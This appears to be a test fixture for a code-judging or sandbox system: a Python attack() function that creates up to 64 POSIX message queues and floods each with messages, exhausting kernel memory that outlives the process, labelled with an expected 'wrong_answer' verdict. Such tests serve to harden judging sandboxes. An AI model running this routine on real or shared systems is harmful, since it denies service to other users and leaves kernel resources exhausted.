# Fills POSIX message queues, memory of the kernel that outlives processes.
# verdicts: wrong_answer
def attack():
    for number in range(64):
        queue = LIBC.mq_open(f"/{MARK}-{number}".encode(), os.O_RDWR | os.O_CREAT, 0o600, None)
        if queue < 0:
            break
        os.set_blocking(queue, False)
        while LIBC.mq_send(queue, b"x" * 8192, 8192, 1) == 0:
            pass
